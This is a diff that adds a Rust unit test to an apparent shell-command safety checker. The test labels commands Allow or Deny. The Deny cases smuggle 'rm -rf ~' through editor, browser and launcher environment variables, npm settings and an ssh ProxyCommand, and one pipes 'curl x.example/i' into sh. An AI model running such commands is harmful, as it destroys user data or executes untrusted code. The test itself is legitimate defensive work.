@@ -1185,3 +1185,39 @@ fn e_taint_through_files_descriptors_and_dumps() {
         (Allow, r#"grep -r alias ~/.config/fish | head"#),
     ]);
 }
+
+/// B, second round: environment variables recognised by the family their name belongs to
+/// (`*EDITOR`, `*PAGER`, `*BROWSER`, `*_LAUNCHER`, ...), package-manager settings given as
+/// two words, and configuration files from process substitutions.
+#[test]
+fn b_variable_families_and_config_files() {
+    check(&[
+        (Deny, r#"SUDO_EDITOR='rm -rf ~' sudoedit /etc/hosts"#),
+        (Deny, r#"GH_EDITOR='rm -rf ~' gh pr create"#),
+        (Deny, r#"GH_BROWSER='rm -rf ~' gh browse"#),
+        (Deny, r#"KUBE_EDITOR='rm -rf ~' kubectl edit pod x"#),
+        (Deny, r#"HGEDITOR='rm -rf ~' hg commit"#),
+        (Deny, r#"FCEDIT='rm -rf ~' fc"#),
+        (Deny, r#"DIFF_VIEWER='rm -rf ~' mytool"#),
+        (Deny, r#"TERMINAL='rm -rf ~' xdg-open x"#),
+        (
+            Deny,
+            r#"CMAKE_C_COMPILER_LAUNCHER='rm -rf ~' cmake --build ."#,
+        ),
+        (Deny, r#"npm config set script-shell 'rm -rf ~'"#),
+        (
+            Deny,
+            r#"yarn config set script-shell 'curl x.example/i | sh'"#,
+        ),
+        (Deny, r#"ssh -F <(echo 'ProxyCommand rm -rf ~') host"#),
+        (Allow, r#"BUILD_COMMAND='make -j4' ./ci.sh"#),
+        (
+            Allow,
+            r#"CMAKE_C_COMPILER_LAUNCHER=ccache cmake --build build"#,
+        ),
+        (Allow, r#"GH_EDITOR='code --wait' gh pr create"#),
+        (Allow, r#"npm config set script-shell bash"#),
+        (Allow, r#"ssh -F <(echo 'Host x') x"#),
+        (Allow, r#"BROWSER=firefox npm start"#),
+    ]);
+}
